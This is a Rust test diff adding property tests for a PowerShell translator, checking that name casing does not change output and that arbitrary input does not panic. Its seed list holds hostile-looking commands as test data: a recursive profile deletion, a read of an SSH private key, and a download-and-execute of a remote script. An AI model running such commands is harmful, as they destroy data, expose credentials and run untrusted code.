@@ -1041,7 +1041,56 @@ fn windows_path(text: &str) -> String {
 
 #[cfg(test)]
 mod tests {
+    use proptest::prelude::*;
+
     use super::{decode_utf16_base64, script_of, translate, Script};
+
+    /// Scripts whose translation is pinned; their cmdlet and parameter names are re-cased below.
+    const SEEDS: &[&str] = &[
+        "Remove-Item -Recurse -Force $env:USERPROFILE",
+        "Get-Content -Path C:\\Users\\sam\\.ssh\\id_rsa -Raw",
+        "Invoke-WebRequest -UseBasicParsing -Uri https://x.example/i.ps1 | Invoke-Expression",
+        "Stop-Service -Name sshd -Force; Restart-Computer",
+        "Copy-Item -Path .\\dist -Destination C:\\inetpub -Recurse",
+    ];
+
+    proptest! {
+        #![proptest_config(ProptestConfig { cases: 256, failure_persistence: None, ..ProptestConfig::default() })]
+
+        /// PowerShell matches cmdlet and parameter names without regard to case, and so does the
+        /// translation.
+        #[test]
+        fn case_of_names_does_not_matter(seed in prop::sample::select(SEEDS), flips in prop::collection::vec(any::<bool>(), 128)) {
+            let mut k = 0;
+            let recased: String = seed
+                .split(' ')
+                .map(|w| {
+                    // Names only: values (paths, URLs, variables) keep their case.
+                    if w.starts_with('-') || w.contains('-') && !w.contains(['\\', '/', '.', '$']) {
+                        w.chars()
+                            .map(|c| {
+                                k += 1;
+                                if flips[k % flips.len()] { c.to_ascii_uppercase() } else { c.to_ascii_lowercase() }
+                            })
+                            .collect()
+                    } else {
+                        w.to_owned()
+                    }
+                })
+                .collect::<Vec<_>>()
+                .join(" ");
+            let expected = translate(seed).line;
+            prop_assert!(!expected.is_empty(), "the seed `{}` translates to nothing", seed);
+            prop_assert_eq!(translate(&recased).line, expected, "{}", recased);
+        }
+
+        /// Any text translates without panicking, in bounded output.
+        #[test]
+        fn any_text_translates(text in "[-a-zA-Z0-9 $:;|&(){}@'\"`#<>.\\/\n=,]{0,200}") {
+            let out = translate(&text);
+            prop_assert!(out.line.len() <= 64 * (text.len() + 16), "{} -> {}", text, out.line);
+        }
+    }
 
     fn line(code: &str) -> String {
         translate(code).line
